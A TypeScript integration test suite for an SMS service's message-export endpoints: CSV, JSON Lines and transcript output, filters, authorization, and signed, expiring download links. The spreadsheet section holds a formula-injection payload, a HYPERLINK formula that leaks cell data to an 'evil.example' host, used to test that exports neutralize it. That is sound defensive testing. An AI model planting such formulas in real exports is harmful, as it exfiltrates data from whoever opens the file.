/**
 * Export: the delivery log (filtered) or one conversation as CSV, JSON Lines or a
 * text transcript, streamed from GET /export/… with the API key or with the signed URL that
 * exportMessages/exportConversation return; and a large export that streams in flat memory.
 */
import { get as httpGet, type IncomingMessage } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decodeGlobalID, encodeGlobalID } from '@pothos/plugin-relay';
import type { Prisma } from '../src/db/client';
import { graphql } from './gql';
import { graphqlClient, ok } from './support/client';
import { createOrganizationFixture, NUMBERS, type OrganizationFixture } from './support/fixtures';
import { eventually, startServer, usesServices, type TestServer } from './support/server';
import { CSV_COLUMNS, neutralizeFormula } from '../src/export/encoders';
import { signedExportUrl } from '../src/export/signed-url';
import { MAX_BODY_CHARACTERS } from '../src/messaging/send';
import { seedMessages } from '../bench/export';

const ExportSendSms = graphql(`
  mutation ExportSendSms($input: SendSmsInput!) {
    sendSms(input: $input) {
      __typename
      ... on SendMessagePayload { outboundMessage { id } }
      ... on Error { code message }
    }
  }
`);

const ExportMessagesLink = graphql(`
  mutation ExportMessagesLink($filter: MessageFilter, $format: ExportFormat!) {
    exportMessages(filter: $filter, format: $format) {
      __typename
      ... on ExportPayload { url expiresAt format }
      ... on Error { code message }
    }
  }
`);

const ExportConversationLink = graphql(`
  mutation ExportConversationLink($id: ID!, $format: ExportFormat!) {
    exportConversation(id: $id, format: $format) {
      __typename
      ... on ExportPayload { url expiresAt format }
      ... on Error { code message }
    }
  }
`);

const ExportCreateApiKey = graphql(`
  mutation ExportCreateApiKey($input: CreateApiKeyInput!) {
    createApiKey(input: $input) {
      __typename
      ... on CreateApiKeyPayload { apiKey apiKeyId }
      ... on Error { code message }
    }
  }
`);

const ExportRevokeApiKey = graphql(`
  mutation ExportRevokeApiKey($id: ID!) {
    revokeApiKey(id: $id) {
      __typename
      ... on Error { code message }
    }
  }
`);

let server: TestServer;
let org: OrganizationFixture;
let other: OrganizationFixture;
let orgId: string;
let otherId: string;

/** The known data set: raw ids by name, in the order they were created (oldest first). */
const ids: Record<string, string> = {};
const conversations: Record<string, string> = {};
const gid = (name: string) => encodeGlobalID('Message', ids[name]);
const cid = (name: string) => encodeGlobalID('Conversation', conversations[name]);
const at = (minute: number) => new Date(Date.UTC(2026, 10, 26, 10, minute, 0));

const BODIES = {
  m1: 'Hello, "friend"',
  m2: 'Line one\nLine two, with a comma',
  m3: '🎉 Party at 8 — café',
  m4: 'Plain text',
  m5: 'Reply\r\nwith CRLF',
};

beforeAll(async () => {
  server = await startServer();
  org = await createOrganizationFixture(server);
  other = await createOrganizationFixture(server, { name: 'Other', numberOffset: 1 });
  const { db } = server.app.services;
  const numberId = async (phoneNumber: string) => (await db.phoneNumber.findFirstOrThrow({ where: { phoneNumber } })).id;
  orgId = decodeGlobalID(org.organizationId).id;
  otherId = decodeGlobalID(other.organizationId).id;
  const twilio = org.numbers.twilio.phoneNumber;
  const telnyx = org.numbers.telnyx.phoneNumber;

  // The known data set is written straight into the real database (fixed dates, bodies and
  // statuses no provider round-trip would give deterministically). Two threads of one
  // organization interleaved in time, one thread of another organization.
  const thread = async (organizationId: string, ourNumber: string, customer: string) =>
    (
      await db.conversation.create({
        data: {
          organizationId,
          phoneNumberId: await numberId(ourNumber),
          customerPhoneNumber: customer,
          openThreadKey: `${await numberId(ourNumber)}|${customer}`,
          lastMessageAt: at(4),
        },
      })
    ).id;
  conversations.c1 = await thread(orgId, twilio, NUMBERS.customer);
  conversations.c2 = await thread(orgId, telnyx, NUMBERS.customer2);
  conversations.c3 = await thread(otherId, other.numbers.twilio.phoneNumber, NUMBERS.customer);

  const base = { organizationId: orgId, segments: 1, encoding: 'GSM7' as const };
  const seed = async (name: string, data: Omit<Prisma.MessageUncheckedCreateInput, 'organizationId' | 'segments' | 'encoding'> & { encoding?: 'GSM7' | 'UCS2' }) => {
    ids[name] = (await db.message.create({ data: { ...base, ...data } })).id;
  };
  // Created out of order on purpose: the export sorts by createdAt, not by insertion.
  await seed('m3', {
    conversationId: conversations.c1, direction: 'OUTBOUND', provider: 'TWILIO', status: 'FAILED', from: twilio, to: NUMBERS.customer,
    body: BODIES.m3, encoding: 'UCS2', errorCode: '21211', errorMessage: "The 'To' number is not valid",
    mediaUrls: JSON.stringify(['https://cdn.example.com/a.jpg', 'https://cdn.example.com/b.jpg']), createdAt: at(4),
  });
  await seed('m1', {
    conversationId: conversations.c1, direction: 'OUTBOUND', provider: 'TWILIO', status: 'DELIVERED', from: twilio, to: NUMBERS.customer,
    body: BODIES.m1, providerMessageId: 'SM0001', createdAt: at(0),
  });
  await seed('m2', {
    conversationId: conversations.c1, direction: 'INBOUND', provider: 'TWILIO', status: 'RECEIVED', from: NUMBERS.customer, to: twilio,
    body: BODIES.m2, providerMessageId: 'SM0002', createdAt: at(2),
  });
  await seed('m4', {
    conversationId: conversations.c2, direction: 'OUTBOUND', provider: 'TELNYX', status: 'SENT', from: telnyx, to: NUMBERS.customer2,
    body: BODIES.m4, providerMessageId: 'tx-4', createdAt: at(1),
  });
  await seed('m5', {
    conversationId: conversations.c2, direction: 'INBOUND', provider: 'TELNYX', status: 'RECEIVED', from: NUMBERS.customer2, to: telnyx,
    body: BODIES.m5, providerMessageId: 'tx-5', createdAt: at(3),
  });
  ids.m6 = (
    await db.message.create({
      data: {
        organizationId: otherId, conversationId: conversations.c3, direction: 'OUTBOUND', provider: 'TWILIO', status: 'SENT',
        from: other.numbers.twilio.phoneNumber, to: NUMBERS.customer, body: 'Other organization, not yours', segments: 1, encoding: 'GSM7', createdAt: at(1),
      },
    })
  ).id;

  // And one message sent through the API: it joins the open thread c1 and comes last.
  const sent = (await ok(org.request(ExportSendSms, { input: { fromPhoneNumber: twilio, toPhoneNumber: NUMBERS.customer, message: 'Sent for real' } }))).sendSms;
  if (sent.__typename !== 'SendMessagePayload') throw new Error(JSON.stringify(sent));
  ids.m7 = (await db.message.findFirstOrThrow({ where: { organizationId: orgId, body: 'Sent for real' } })).id;
  await eventually(async () => (await db.message.findUniqueOrThrow({ where: { id: ids.m7 } })).status === 'SENT');
});
afterAll(() => server?.stop());

const ALL = ['m1', 'm4', 'm2', 'm5', 'm3', 'm7'];

function get(path: string, apiKey: string | null = org.apiKey) {
  return fetch(`${server.url}${path}`, { headers: apiKey ? { authorization: `Bearer ${apiKey}` } : {} });
}

/** RFC 4180 parser: quoted fields may hold commas, doubled quotes and line breaks; records end in CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else if (c === '\n') throw new Error(`bare LF outside quotes at ${i}`);
    else field += c;
  }
  if (field || row.length) throw new Error('last record not terminated by CRLF');
  return rows;
}

async function csvRecords(response: Response) {
  expect(response.status).toBe(200);
  const [header, ...rows] = parseCsv(await response.text());
  expect(header).toEqual([...CSV_COLUMNS]);
  return rows.map((cells) => Object.fromEntries(header.map((h, i) => [h, cells[i]])));
}

const csvIds = async (response: Response) => (await csvRecords(response)).map((r) => r.id);
const expectIds = (names: string[]) => names.map(gid);

describe('GET /export/messages', () => {
  it('streams CSV per RFC 4180: header row, oldest first, commas, quotes, line breaks and emoji round-trip', async () => {
    const response = await get('/export/messages?format=csv');
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="messages-[\d-]+\.csv"$/);
    const raw = await response.clone().text();
    expect(raw).toContain('"Hello, ""friend"""');
    expect(raw).toContain('"Line one\nLine two, with a comma"');

    const records = await csvRecords(response);
    expect(records.map((r) => r.id)).toEqual(expectIds(ALL));
    const byId = Object.fromEntries(records.map((r) => [r.id, r]));
    for (const name of ['m1', 'm2', 'm3', 'm4', 'm5'] as const) expect(byId[gid(name)].body).toBe(BODIES[name]);
    expect(byId[gid('m3')]).toEqual({
      id: gid('m3'),
      createdAt: '2026-11-26T10:04:00.000Z',
      direction: 'OUTBOUND',
      status: 'FAILED',
      provider: 'TWILIO',
      from: org.numbers.twilio.phoneNumber,
      to: NUMBERS.customer,
      body: '🎉 Party at 8 — café',
      mediaUrls: 'https://cdn.example.com/a.jpg https://cdn.example.com/b.jpg',
      segments: '1',
      encoding: 'UCS2',
      errorCode: '21211',
      errorMessage: "The 'To' number is not valid",
      providerMessageId: '',
      conversationId: cid('c1'),
    });
    expect(byId[gid('m7')]).toMatchObject({ body: 'Sent for real', status: 'SENT', direction: 'OUTBOUND', conversationId: cid('c1') });
    expect(raw).not.toContain('Other organization');
  });

  it('streams JSON Lines: one message object per line, same fields as the CSV', async () => {
    const response = await get('/export/messages?format=jsonl');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^application\/jsonl/);
    expect(response.headers.get('content-disposition')).toMatch(/\.jsonl"$/);
    const text = await response.text();
    expect(text.endsWith('\n')).toBe(true);
    const lines = text.slice(0, -1).split('\n').map((line) => JSON.parse(line));
    expect(lines.map((m) => m.id)).toEqual(expectIds(ALL));
    expect(Object.keys(lines[0])).toEqual([...CSV_COLUMNS]);
    expect(lines[4]).toMatchObject({
      body: BODIES.m3,
      mediaUrls: ['https://cdn.example.com/a.jpg', 'https://cdn.example.com/b.jpg'],
      segments: 1,
      errorCode: '21211',
      providerMessageId: null,
      conversationId: cid('c1'),
    });
    expect(lines[3].body).toBe(BODIES.m5);
  });

  it('streams a plain-text transcript, one line per message, continuation lines indented', async () => {
    const response = await get('/export/messages?format=txt&conversationId=' + encodeURIComponent(cid('c1')));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/\.txt"$/);
    const twilio = org.numbers.twilio.phoneNumber;
    const text = await response.text();
    const lines = text.split('\n');
    expect(lines[0]).toBe(`2026-11-26 10:00:00Z  ${twilio} → ${NUMBERS.customer}  [DELIVERED]  Hello, "friend"`);
    const head = `2026-11-26 10:02:00Z  ${NUMBERS.customer} → ${twilio}  [RECEIVED]  `;
    expect(lines[1]).toBe(`${head}Line one`);
    expect(lines[2]).toBe(`${' '.repeat(head.length)}Line two, with a comma`);
    expect(lines[3]).toBe(
      `2026-11-26 10:04:00Z  ${twilio} → ${NUMBERS.customer}  [FAILED 21211]  🎉 Party at 8 — café  [media: https://cdn.example.com/a.jpg https://cdn.example.com/b.jpg]`,
    );
    expect(lines[4]).toMatch(new RegExp(`^\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\dZ  \\${twilio} → \\${NUMBERS.customer}  \\[SENT\\]  Sent for real$`));
    expect(lines.slice(5)).toEqual(['']);
  });

  it.each([
    ['status=FAILED', ['m3']],
    ['status=received', ['m2', 'm5']],
    ['direction=INBOUND', ['m2', 'm5']],
    ['provider=TELNYX', ['m4', 'm5']],
    ['from=' + encodeURIComponent(NUMBERS.customer2), ['m5']],
    ['to=' + encodeURIComponent(NUMBERS.customer), ['m1', 'm3', 'm7']],
    ['search=PARTY', ['m3']],
    ['search=2681', ['m4', 'm5']],
    ['createdAfter=2026-11-26T10:01:00Z&createdBefore=2026-11-26T10:04:00Z', ['m4', 'm2', 'm5']],
    ['direction=OUTBOUND&provider=TWILIO&createdBefore=2026-11-27T00:00:00Z', ['m1', 'm3']],
  ])('filter %s narrows the rows', async (query, expected) => {
    expect(await csvIds(await get(`/export/messages?format=csv&${query}`))).toEqual(expectIds(expected));
  });

  it('filters by conversation and assistant with global IDs; another organization’s IDs find nothing', async () => {
    expect(await csvIds(await get(`/export/messages?conversationId=${encodeURIComponent(cid('c2'))}`))).toEqual(expectIds(['m4', 'm5']));
    expect(await csvIds(await get(`/export/messages?conversationId=${encodeURIComponent(cid('c3'))}`))).toEqual([]);
    expect(await csvIds(await get(`/export/messages?conversationId=not-an-id`))).toEqual([]);
  });

  it('refuses a bad format or filter with 400', async () => {
    const bad = await get('/export/messages?format=xlsx');
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({ error: { code: 'INVALID_INPUT' } });
    expect((await get('/export/messages?status=LOST')).status).toBe(400);
    expect((await get('/export/messages?createdAfter=yesterday')).status).toBe(400);
  });

  it('answers 401 without a key or with a wrong one, and only GET', async () => {
    expect((await get('/export/messages?format=csv', null)).status).toBe(401);
    expect((await get('/export/messages?format=csv', 'sk_live_nope')).status).toBe(401);
    expect((await get(`/export/conversations/${encodeURIComponent(cid('c1'))}`, null)).status).toBe(401);
    const post = await fetch(`${server.url}/export/messages`, { method: 'POST', headers: { authorization: `Bearer ${org.apiKey}` } });
    expect(post.status).toBe(405);
  });
});

describe('GET /export/conversations/<id>', () => {
  it('holds that thread only, oldest first', async () => {
    const response = await get(`/export/conversations/${encodeURIComponent(cid('c1'))}?format=csv`);
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="conversation-14155552680-[\d-]+\.csv"$/);
    const records = await csvRecords(response);
    expect(records.map((r) => r.id)).toEqual(expectIds(['m1', 'm2', 'm3', 'm7']));
    expect(new Set(records.map((r) => r.conversationId))).toEqual(new Set([cid('c1')]));
    const jsonl = await (await get(`/export/conversations/${encodeURIComponent(cid('c2'))}?format=jsonl`)).text();
    expect(jsonl.trim().split('\n').map((l) => JSON.parse(l).body)).toEqual([BODIES.m4, BODIES.m5]);
  });

  it("answers 404 for another organization's conversation and for an ID that is not one", async () => {
    const foreign = await get(`/export/conversations/${encodeURIComponent(cid('c3'))}?format=csv`);
    expect(foreign.status).toBe(404);
    expect(await foreign.json()).toMatchObject({ error: { code: 'NOT_FOUND' } });
    expect((await get(`/export/conversations/${encodeURIComponent(gid('m1'))}`)).status).toBe(404);
    expect((await get('/export/conversations/garbage')).status).toBe(404);
    // The other organization exports its own thread.
    expect(await csvIds(await get(`/export/conversations/${encodeURIComponent(cid('c3'))}`, other.apiKey))).toEqual([encodeGlobalID('Message', ids.m6)]);
  });
});

describe('signed download URLs from GraphQL', () => {
  it('exportMessages returns an absolute URL under PUBLIC_URL that downloads the filtered log without an Authorization header', async () => {
    const result = (await ok(org.request(ExportMessagesLink, { filter: { direction: 'INBOUND', createdBefore: '2026-11-27T00:00:00Z' }, format: 'CSV' }))).exportMessages;
    if (result.__typename !== 'ExportPayload') throw new Error(JSON.stringify(result));
    expect(result.format).toBe('CSV');
    expect(result.url.startsWith(`${server.config.publicUrl}/export/messages?`)).toBe(true);
    const expiresIn = Date.parse(result.expiresAt) - Date.now();
    expect(expiresIn).toBeGreaterThan(14 * 60_000);
    expect(expiresIn).toBeLessThanOrEqual(15 * 60_000);
    const response = await fetch(result.url);
    expect(await csvIds(response)).toEqual(expectIds(['m2', 'm5']));
  });

  it('exportConversation returns a URL for that thread; another organization’s thread is NOT_FOUND', async () => {
    const result = (await ok(org.request(ExportConversationLink, { id: cid('c1'), format: 'TXT' }))).exportConversation;
    if (result.__typename !== 'ExportPayload') throw new Error(JSON.stringify(result));
    const response = await fetch(result.url);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    const text = await response.text();
    expect(text.split('\n')[0]).toContain('[DELIVERED]  Hello, "friend"');
    expect(text).not.toContain('Plain text');

    const foreign = (await ok(org.request(ExportConversationLink, { id: cid('c3'), format: 'CSV' }))).exportConversation;
    expect(foreign).toMatchObject({ __typename: 'ApiError', code: 'NOT_FOUND' });
    const unauthenticated = await fetch(`${server.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ query: 'mutation { exportMessages(format: CSV) { __typename } }' }),
    });
    expect((await unauthenticated.json()).errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
  });

  it('refuses a tampered, transplanted or expired token with 403, and changes nothing else', async () => {
    const result = (await ok(org.request(ExportMessagesLink, { filter: { status: 'FAILED' }, format: 'CSV' }))).exportMessages;
    if (result.__typename !== 'ExportPayload') throw new Error(JSON.stringify(result));
    const url = new URL(result.url);
    expect((await fetch(url)).status).toBe(200);

    const widened = new URL(url);
    widened.searchParams.delete('status');
    expect((await fetch(widened)).status).toBe(403);
    const changed = new URL(url);
    changed.searchParams.set('format', 'jsonl');
    expect((await fetch(changed)).status).toBe(403);
    const forged = new URL(url);
    const token = url.searchParams.get('token')!;
    forged.searchParams.set('token', token.replace(/\.[^.]+$/, `.${'A'.repeat(43)}`));
    expect((await fetch(forged)).status).toBe(403);
    const otherOrg = new URL(url);
    otherOrg.searchParams.set('token', token.replace(orgId, otherId));
    expect((await fetch(otherOrg)).status).toBe(403);
    const later = new URL(url);
    later.searchParams.set('token', token.replace(/^\d+/, (s) => String(Number(s) + 3600)));
    expect((await fetch(later)).status).toBe(403);
    // The same token on another path (a conversation export) does not open it.
    const transplanted = new URL(`${server.config.publicUrl}/export/conversations/${encodeURIComponent(cid('c1'))}`);
    transplanted.search = url.search;
    expect((await fetch(transplanted)).status).toBe(403);

    // A link issued 16 minutes ago by this server has expired.
    const apiKeyId = (await server.app.services.db.apiKey.findFirstOrThrow({ where: { organizationId: orgId, revokedAt: null } })).id;
    const old = signedExportUrl(server.app.services, { organizationId: orgId, apiKeyId }, '/export/messages', { format: 'csv' }, Date.now() - 16 * 60_000);
    const expired = await fetch(old.url);
    expect(expired.status).toBe(403);
    expect((await expired.json()).error.message).toMatch(/expired/);
  });
});

describe('links and revoked keys', () => {
  it('a link stops downloading once the API key that made it is revoked; links made with other keys still work', async () => {
    const created = (await ok(org.request(ExportCreateApiKey, { input: { name: 'exporter' } }))).createApiKey;
    if (created.__typename !== 'CreateApiKeyPayload') throw new Error(JSON.stringify(created));
    const exporter = graphqlClient(server.url, created.apiKey);
    const mine = (await ok(exporter(ExportMessagesLink, { format: 'CSV' }))).exportMessages;
    const thread = (await ok(exporter(ExportConversationLink, { id: cid('c1'), format: 'TXT' }))).exportConversation;
    const others = (await ok(org.request(ExportMessagesLink, { format: 'JSONL' }))).exportMessages;
    if (mine.__typename !== 'ExportPayload' || thread.__typename !== 'ExportPayload' || others.__typename !== 'ExportPayload') throw new Error('no link');
    expect((await fetch(mine.url)).status).toBe(200);
    expect((await fetch(thread.url)).status).toBe(200);

    const revoked = (await ok(org.request(ExportRevokeApiKey, { id: created.apiKeyId }))).revokeApiKey;
    expect(revoked.__typename).toBe('RevokeApiKeyPayload');
    for (const url of [mine.url, thread.url]) {
      const response = await fetch(url);
      expect(response.status).toBe(403);
      expect((await response.json()).error.message).toMatch(/revoked/);
    }
    expect((await fetch(others.url)).status).toBe(200);
    // The key id in the token is signed: swapping in a live key's id does not bring the link back.
    const liveKeyId = (await server.app.services.db.apiKey.findFirstOrThrow({ where: { organizationId: orgId, revokedAt: null } })).id;
    const swapped = new URL(mine.url);
    swapped.searchParams.set('token', swapped.searchParams.get('token')!.replace(`.${created.apiKeyId}.`, `.${liveKeyId}.`));
    expect((await fetch(swapped)).status).toBe(403);
  });
});

describe('CSV and spreadsheets', () => {
  it('neutralizes cells a spreadsheet would run as formulas, keeping phone numbers and plain numbers', () => {
    for (const cell of ['=1+2', '=HYPERLINK("https://evil.example/?"&A1,"x")', '+A1', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', '-', '+']) {
      expect(neutralizeFormula(cell), cell).toBe(`'${cell}`);
    }
    for (const cell of ['+14155552671', '-3', '-12.5', 'Hello', ' =1', "'=1", '']) expect(neutralizeFormula(cell), cell).toBe(cell);
  });

  it('exports a message whose body is a formula with a leading quote, in CSV only', async () => {
    const third = await createOrganizationFixture(server, { name: 'Formulas', numberOffset: 2 });
    const thirdId = decodeGlobalID(third.organizationId).id;
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    await server.app.services.db.message.create({
      data: {
        organizationId: thirdId, direction: 'INBOUND', provider: 'TWILIO', status: 'RECEIVED', from: NUMBERS.customer, to: third.numbers.twilio.phoneNumber,
        body: formula, errorMessage: '@cmd', segments: 1, encoding: 'GSM7', createdAt: at(5),
      },
    });
    const [record] = await csvRecords(await get('/export/messages?format=csv', third.apiKey));
    expect(record).toMatchObject({ body: `'${formula}`, errorMessage: "'@cmd", from: NUMBERS.customer, to: third.numbers.twilio.phoneNumber });
    const [line] = (await (await get('/export/messages?format=jsonl', third.apiKey)).text()).trim().split('\n');
    expect(JSON.parse(line).body).toBe(formula);
  });
});

describe('a large export', () => {
  // 20,000 rows here, to keep the file to seconds; `npx tsx bench/export.ts` streams 100,000 and
  // 300,000 from a server in its own process and samples its RSS from /proc.
  const ROWS = Number(process.env.EXPORT_TEST_ROWS ?? 20_000);
  // Bodies as long as a message may be: ~34 MB of CSV, twice that as strings. While the reader
  // stalls, the streamed export grows this process by 3–11 MB (the loopback socket's buffers, up
  // to ~36 MB here, take part of the export; a server that did not wait for 'drain' holds the
  // rest: +25–33 MB), and by 10–40 MB over the whole export. The bound on the whole export leaves
  // room for V8 now and then promoting the read batches to its old generation (on a loaded
  // machine: up to ~90 MB, as when every batch was kept; see exportChunks). bench/export.ts
  // measures the server alone, in a process of its own.
  const BODY = MAX_BODY_CHARACTERS;
  const STALL_MS = 2000;
  const MAX_STALLED_GROWTH_MB = 20;
  const MAX_GROWTH_MB = 100;

  it(`streams ${ROWS.toLocaleString('en')} messages to a slow reader in flat memory, every row exactly once, oldest first`, async () => {
    const { db } = server.app.services;
    // Seeds the real database directly, in one INSERT … SELECT generated by the database
    // (bench/export.ts): going through sendSms would measure the send queue, not the export, and
    // createMany takes tens of seconds for this many rows on a busy machine. Ten rows share each
    // millisecond, so batch boundaries fall inside runs of equal createdAt and the
    // (createdAt, id) keyset must split them.
    const t0 = performance.now();
    await seedMessages(db, server.app.services.dialect, {
      organizationId: otherId,
      conversationId: conversations.c3,
      from: other.numbers.twilio.phoneNumber,
      to: NUMBERS.customer,
      rows: ROWS,
      startMs: Date.UTC(2026, 9, 1),
      bodyLength: BODY,
    });
    const seedSeconds = (performance.now() - t0) / 1000;

    const baseline = process.memoryUsage().rss;
    let peak = baseline;
    const sampler = setInterval(() => {
      peak = Math.max(peak, process.memoryUsage().rss);
    }, 5);
    const t1 = performance.now();
    // A fresh connection (no keep-alive socket the server may be closing after the seed).
    const response = await new Promise<IncomingMessage>((resolve, reject) =>
      httpGet(`${server.url}/export/conversations/${encodeURIComponent(cid('c3'))}?format=csv`, { agent: false, headers: { authorization: `Bearer ${other.apiKey}` } }, resolve).on('error', reject),
    );
    expect(response.statusCode).toBe(200);
    // The reader stalls for 2 s before it reads anything (long enough for the server to read the
    // whole table): the server must wait for the socket to drain rather than buffer the export.
    response.pause();
    await new Promise((r) => setTimeout(r, STALL_MS));
    const stalledGrowth = (process.memoryUsage().rss - baseline) / 2 ** 20;
    const seen = new Set<number>();
    let carry = '';
    let bytes = 0;
    let outOfOrder = 0;
    let last = -1;
    response.setEncoding('utf8');
    for await (const part of response as AsyncIterable<string>) {
      bytes += Buffer.byteLength(part);
      const lines = (carry + part).split('\r\n');
      carry = lines.pop()!;
      for (const line of lines) {
        const match = /,"Message (\d+):/.exec(line);
        if (!match) continue;
        const i = Number(match[1]);
        if (i < last) outOfOrder++;
        last = i;
        seen.add(i);
      }
    }
    clearInterval(sampler);
    peak = Math.max(peak, process.memoryUsage().rss);
    const seconds = (performance.now() - t1) / 1000;
    const growthMb = (peak - baseline) / 2 ** 20;
    console.log(
      `[export ${usesServices ? 'postgresql' : 'sqlite'}] seeded ${ROWS} rows in ${seedSeconds.toFixed(1)} s; exported ${ROWS + 1} rows ` +
        `(${(bytes / 2 ** 20).toFixed(1)} MB CSV) in ${seconds.toFixed(2)} s incl. a ${STALL_MS / 1000} s stall = ${Math.round((ROWS + 1) / seconds)} rows/s; ` +
        `RSS baseline ${(baseline / 2 ** 20).toFixed(0)} MB, +${stalledGrowth.toFixed(1)} MB while stalled, peak ${(peak / 2 ** 20).toFixed(0)} MB (+${growthMb.toFixed(1)} MB; server and client share this process)`,
    );
    expect(carry).toBe('');
    expect(seen.size).toBe(ROWS);
    expect(outOfOrder).toBe(0);
    expect(stalledGrowth).toBeLessThan(MAX_STALLED_GROWTH_MB);
    expect(growthMb).toBeLessThan(MAX_GROWTH_MB);
  }, 120_000);
});
